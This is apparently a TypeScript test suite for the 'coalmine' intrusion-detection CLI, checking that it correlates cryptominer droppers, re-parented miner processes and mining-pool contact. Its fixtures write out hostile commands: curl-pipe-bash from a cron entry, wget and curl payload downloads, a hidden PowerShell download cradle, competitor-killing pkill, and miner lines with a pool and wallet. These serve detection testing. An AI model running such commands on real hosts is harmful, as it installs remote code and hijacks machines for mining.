/**
 * Correlation across the shapes real intrusions take (issue 12, items 1 and 2), through the real CLI
 * on NDJSON events we write here: every way a dropper hands a file to a miner that the kernel then
 * re-parents gives one finding, and a flagged distant ancestor never adopts unrelated busy work.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { ndjsonFindings, runCli } from '../support/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'coalmine-correlation-'));
after(() => process.env.KEEP_TEST_DIR || rmSync(dir, { recursive: true, force: true }));

const T0 = Date.UTC(2026, 10, 20, 3, 0, 0);
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

interface Proc {
  pid: number;
  name: string;
  executable: string;
  command_line: string;
  ppid?: number;
  cwd?: string;
}

type Ev = Record<string, unknown>;

function at(seconds: number): string {
  return new Date(T0 + seconds * 1000).toISOString();
}

function host(platform: 'linux' | 'windows') {
  return { name: platform === 'linux' ? 'web-07' : 'WS-12', os: { platform } };
}

function exec(seconds: number, p: Proc, platform: 'linux' | 'windows' = 'linux'): Ev {
  return {
    '@timestamp': at(seconds),
    event: { kind: 'event', category: ['process'], action: 'exec', dataset: 'test.exec' },
    host: host(platform),
    process: {
      pid: p.pid,
      name: p.name,
      executable: p.executable,
      command_line: p.command_line,
      args: p.command_line.split(' '),
      ...(p.cwd ? { working_directory: p.cwd } : {}),
      ...(p.ppid !== undefined ? { parent: { pid: p.ppid } } : {}),
    },
    original: {},
  };
}

function fileWrite(seconds: number, pid: number, path: string): Ev {
  return {
    '@timestamp': at(seconds),
    event: { kind: 'event', category: ['file'], action: 'file-write', dataset: 'test.file' },
    host: host('linux'),
    process: { pid },
    file: { path, name: path.slice(path.lastIndexOf('/') + 1) },
    original: {},
  };
}

function cpu(fromMin: number, toMin: number, pid: number, pct: number, platform: 'linux' | 'windows' = 'linux'): Ev[] {
  const out: Ev[] = [];
  for (let m = fromMin; m <= toMin; m++)
    out.push({
      '@timestamp': at(m * 60),
      event: { kind: 'metric', category: ['host'], action: 'metric', dataset: 'test.metric' },
      host: host(platform),
      process: { pid },
      metrics: { cpu_pct: pct },
      original: {},
    });
  return out;
}

const cron: Proc = { pid: 900, name: 'cron', executable: '/usr/sbin/cron', command_line: '/usr/sbin/cron -f', ppid: 1 };
/** The dropper lineage: cron → sh -c "curl … | bash" → bash reading the script. */
const dropperShell: Proc = {
  pid: 2000,
  name: 'sh',
  executable: '/bin/sh',
  command_line: 'sh -c curl -fsSL http://203.0.113.9/ld.sh | bash',
  ppid: 900,
};
const script: Proc = { pid: 2002, name: 'bash', executable: '/bin/bash', command_line: 'bash', ppid: 2000 };
const cronEntry: Ev = {
  '@timestamp': at(-3600),
  event: { kind: 'state', category: ['configuration'], action: 'persistence-entry', dataset: 'crontab.entry' },
  host: host('linux'),
  file: { path: '/var/spool/cron/crontabs/root', line: '*/10 * * * * curl -fsSL http://203.0.113.9/ld.sh | bash' },
  process: { command_line: 'curl -fsSL http://203.0.113.9/ld.sh | bash' },
  original: {},
  coalmine: { persistence: { mechanism: 'cron', target: '/usr/bin/curl' } },
};

/** A renamed miner: nothing in its name, only its pool options say what it is. */
function miner(pid: number, path: string, ppid: number | undefined): Proc {
  return {
    pid,
    name: path.slice(path.lastIndexOf('/') + 1),
    executable: path,
    command_line: `${path} -o stratum+tcp://198.51.100.77:443 -u ${WALLET} -p x --donate-level 1`,
    ppid,
  };
}

/** The ways a dropper hands its file over, each ending in an exec that the kernel re-parented to init. */
const HANDOFFS: Record<string, () => Ev[]> = {
  'curl -o, chmod +x, setsid': () => {
    const p = '/tmp/.ICE-unix/sysupdate';
    return [
      exec(1, {
        pid: 2003,
        name: 'curl',
        executable: '/usr/bin/curl',
        command_line: `curl -fsSLo ${p} http://203.0.113.9/s`,
        ppid: 2002,
      }),
      exec(2, { pid: 2004, name: 'chmod', executable: '/bin/chmod', command_line: `chmod +x ${p}`, ppid: 2002 }),
      exec(3, miner(2100, p, 1)),
      ...cpu(1, 25, 2100, 390),
    ];
  },
  'wget into the working directory, nohup &': () => [
    exec(1, {
      pid: 2003,
      name: 'wget',
      executable: '/usr/bin/wget',
      command_line: 'wget -q http://203.0.113.9/kswapd',
      ppid: 2002,
      cwd: '/var/tmp',
    }),
    exec(3, miner(2100, '/var/tmp/kswapd', 1)),
    ...cpu(1, 25, 2100, 390),
  ],
  'a file-write record, then a double fork': () => [
    fileWrite(1, 2002, '/dev/shm/.x'),
    exec(3, miner(2100, '/dev/shm/.x', 1)),
    ...cpu(1, 25, 2100, 390),
  ],
  'cp into place, started by cron through sh -c': () => {
    const p = '/usr/local/lib/.cache/dbus-daemon';
    return [
      exec(1, { pid: 2003, name: 'cp', executable: '/bin/cp', command_line: `cp /tmp/x ${p}`, ppid: 2002 }),
      exec(120, { pid: 3000, name: 'sh', executable: '/bin/sh', command_line: `sh -c ${p}`, ppid: 900 }),
      exec(121, miner(3001, p, 3000)),
      ...cpu(3, 25, 3001, 390),
    ];
  },
};

function hunt(name: string, events: Ev[]) {
  const file = join(dir, `${name.replace(/[^a-z0-9]+/gi, '-')}.ndjson`);
  writeFileSync(file, `${events.map((e) => JSON.stringify(e)).join('\n')}\n`);
  const result = runCli(['hunt', file, '--format', 'ndjson', '--no-summary']);
  assert.equal(result.code, 0, result.stderr);
  return ndjsonFindings(result.stdout);
}

for (const [name, handoff] of Object.entries(HANDOFFS)) {
  test(`provenance across re-parenting (${name}): dropper and miner are one high finding`, () => {
    const events = [
      cronEntry,
      exec(0, cron),
      exec(0, dropperShell),
      exec(0, script),
      exec(2, {
        pid: 2005,
        name: 'pkill',
        executable: '/usr/bin/pkill',
        command_line: 'pkill -9 -f xmrig',
        ppid: 2002,
      }),
      ...handoff(),
    ];
    const findings = hunt(name, events).filter((f) => f.analytic === 'AN0742');
    assert.equal(findings.length, 1, findings.map((f) => `${f.severity} ${f.summary}`).join('\n'));
    const [f] = findings;
    assert.equal(f.severity, 'high');
    assert.deepEqual([...f.legs].sort(), ['process', 'reach', 'resource']);
    const kinds = new Set<string>(f.evidence.map((e) => e.kind));
    for (const k of ['dropper', 'miner-process', 'competitor-kill', 'sustained-cpu', 'persistence'])
      assert.ok(kinds.has(k), `${k} missing: ${[...kinds].join(', ')}`);
    const link = f.evidence.find((e) => e.explanation.includes('of this lineage'));
    assert.ok(link, 'the evidence says how the file reached the miner');
    assert.match(link.explanation, /was (fetched|written|copied) by pid 200[234] /);
  });
}

test('a file fetched more than a day before an unrelated re-parented run is not joined to its fetcher', () => {
  const p = '/tmp/.ICE-unix/sysupdate';
  const events = [
    cronEntry,
    exec(0, cron),
    exec(0, dropperShell),
    exec(0, script),
    exec(1, {
      pid: 2003,
      name: 'curl',
      executable: '/usr/bin/curl',
      command_line: `curl -o ${p} http://203.0.113.9/s`,
      ppid: 2002,
    }),
    exec(2 * 86_400, miner(2100, p, 1)),
    ...cpu(2 * 1440 + 1, 2 * 1440 + 25, 2100, 390),
  ];
  const findings = hunt('too-old', events).filter((f) => f.analytic === 'AN0742');
  const minerFinding = findings.find((f) => f.facts.executable === p);
  assert.ok(minerFinding);
  assert.ok(!minerFinding.evidence.some((e) => e.explanation.includes('of this lineage')));
});

test('Windows: a file the cradle downloads, later started by a scheduled task, is one finding with the cradle', () => {
  const svc: Proc = {
    pid: 700,
    name: 'svchost.exe',
    executable: 'C:\\Windows\\System32\\svchost.exe',
    command_line: 'svchost.exe -k netsvcs',
    ppid: 600,
  };
  const explorer: Proc = {
    pid: 800,
    name: 'explorer.exe',
    executable: 'C:\\Windows\\explorer.exe',
    command_line: 'explorer.exe',
    ppid: 650,
  };
  const cradle: Proc = {
    pid: 810,
    name: 'powershell.exe',
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    command_line:
      "powershell.exe -nop -w hidden -c (New-Object Net.WebClient).DownloadFile('http://203.0.113.9/u.exe','C:\\Users\\Public\\Libraries\\wuauclt.exe')",
    ppid: 800,
  };
  const minerExe = 'C:\\Users\\Public\\Libraries\\wuauclt.exe';
  const started: Proc = {
    pid: 900,
    name: 'wuauclt.exe',
    executable: minerExe,
    command_line: `"${minerExe}" -o stratum+tcp://198.51.100.77:443 -u ${WALLET} -p x`,
    ppid: 700,
  };
  const events = [
    exec(0, svc, 'windows'),
    exec(0, explorer, 'windows'),
    exec(1, cradle, 'windows'),
    exec(60, started, 'windows'),
    ...cpu(1, 25, 900, 390, 'windows'),
  ];
  const findings = hunt('windows', events).filter((f) => f.analytic === 'AN0741');
  assert.equal(findings.length, 1, findings.map((f) => `${f.severity} ${f.summary}`).join('\n'));
  const [f] = findings;
  assert.ok(f.evidence.some((e) => e.explanation.includes('of this lineage')));
  assert.ok(
    f.processes.some((p) => p.pid === 810),
    'the cradle is named in the miner finding',
  );
});

test('a flagged distant ancestor does not adopt its tree: a busy sibling and the runner stay out of the miner finding', () => {
  // a tool running from a memfd (masquerade of its own) runs a test runner, which runs a miner and, apart, a build
  const events = [
    exec(0, { pid: 500, name: 'agent', executable: '/memfd:agent (deleted)', command_line: 'agent --serve', ppid: 1 }),
    exec(0, { pid: 510, name: 'node', executable: '/usr/bin/node', command_line: 'node runner.js', ppid: 500 }),
    exec(1, { pid: 520, name: 'bash', executable: '/bin/bash', command_line: 'bash ./job.sh', ppid: 510 }),
    exec(2, miner(530, '/tmp/.cache/kthreadx', 520)),
    exec(1, { pid: 540, name: 'go', executable: '/usr/local/go/bin/go', command_line: 'go test ./...', ppid: 510 }),
    exec(2, {
      pid: 541,
      name: 'pkg.test',
      executable: '/tmp/gotmp/b001/pkg.test',
      command_line: '/tmp/gotmp/b001/pkg.test -test.v',
      ppid: 540,
    }),
    exec(1, { pid: 549, name: 'g++', executable: '/usr/bin/g++', command_line: 'g++ -O2 -c x.cc', ppid: 510 }),
    exec(2, {
      pid: 550,
      name: 'cc1plus',
      executable: '/tmp/cc-build/cc1plus',
      command_line: '/tmp/cc-build/cc1plus -O2 x.cc',
      ppid: 549,
    }),
    ...cpu(1, 25, 530, 390),
    ...cpu(1, 25, 541, 190),
    ...cpu(1, 25, 550, 95),
    // a tool unpacked into a hidden cache, started straight by the runner: where it runs from is all it has
    exec(2, {
      pid: 560,
      name: 'cc1plus',
      executable: '/root/.cache-x/cc1plus',
      command_line: 'cc1plus x.cc',
      ppid: 510,
    }),
    ...cpu(1, 25, 560, 95),
  ];
  const findings = hunt('distant-ancestor', events);
  const minerFinding = findings.find((f) => f.facts.pid === 530);
  assert.ok(minerFinding, 'the miner is found');
  const pids = minerFinding.processes.map((p) => p.pid);
  for (const other of [500, 510, 540, 541, 549, 550, 560])
    assert.ok(!pids.includes(other), `pid ${other} named: ${pids}`);
  for (const f of findings) {
    if (f === minerFinding) continue;
    assert.ok(!['medium', 'high'].includes(f.severity), `benign busy work raised ${f.severity}: ${f.summary}`);
  }
});

function connect(seconds: number, pid: number, ip: string, port: number): Ev {
  return {
    '@timestamp': at(seconds),
    event: { kind: 'event', category: ['network'], action: 'connect', dataset: 'test.connect' },
    host: host('linux'),
    process: { pid },
    destination: { ip, port },
    original: {},
  };
}

function poolEvidence(name: string, events: Ev[]) {
  const findings = hunt(name, events);
  return findings.flatMap((f) => f.evidence.filter((e) => e.kind === 'pool-contact' || e.kind === 'mining-port'));
}

test('pool contact without intel: the address a renamed miner names in its own -o option is strong pool contact', () => {
  const shapes: Array<[string, string, string, number]> = [
    ['bare address', '-o 198.51.100.77:3333', '198.51.100.77', 3333],
    ['unlisted pool name', '--url=pool.unlisted.example:443', '192.0.2.44', 443],
    ['attached short option', '-o198.51.100.78:14444', '198.51.100.78', 14444],
  ];
  for (const [label, option, ip, port] of shapes) {
    const p: Proc = {
      pid: 4100,
      name: 'dbus-launch',
      executable: '/var/tmp/.d/dbus-launch',
      command_line: `/var/tmp/.d/dbus-launch ${option} -u ${WALLET} -p x`,
      ppid: 1,
    };
    const evidence = poolEvidence(`named-${label}`, [exec(0, p), connect(5, 4100, ip, port)]);
    const strong = evidence.find((e) => e.kind === 'pool-contact' && e.strength === 'strong');
    assert.ok(strong, `${label}: ${evidence.map((e) => `${e.strength} ${e.kind}`).join(', ')}`);
    assert.match(strong.explanation, /named in its own miner options/);
  }
});

test('pool contact without intel: a miner reopening one unlisted address on a mining port is medium pool contact; a non-miner is not', () => {
  const minerProc: Proc = {
    pid: 4200,
    name: 'kd',
    executable: '/tmp/kd',
    command_line: `/tmp/kd --donate-level 1 -u ${WALLET}`,
    ppid: 1,
  };
  const reconnects = (pid: number) => [0, 300, 600, 900].map((s) => connect(10 + s, pid, '198.51.100.90', 3333));
  const evidence = poolEvidence('reopened', [exec(0, minerProc), ...reconnects(4200)]);
  const medium = evidence.find((e) => e.kind === 'pool-contact');
  assert.ok(medium, evidence.map((e) => `${e.strength} ${e.kind}`).join(', '));
  assert.equal(medium.strength, 'medium');
  assert.match(medium.explanation, /opened 3 connections between/);

  const devServer: Proc = {
    pid: 4300,
    name: 'node',
    executable: '/usr/bin/node',
    command_line: 'node app.js',
    ppid: 1,
  };
  const quiet = poolEvidence('reopened-benign', [exec(0, devServer), ...reconnects(4300)]);
  assert.ok(!quiet.some((e) => e.kind === 'pool-contact'), 'no miner evidence: the port stays weak');
});
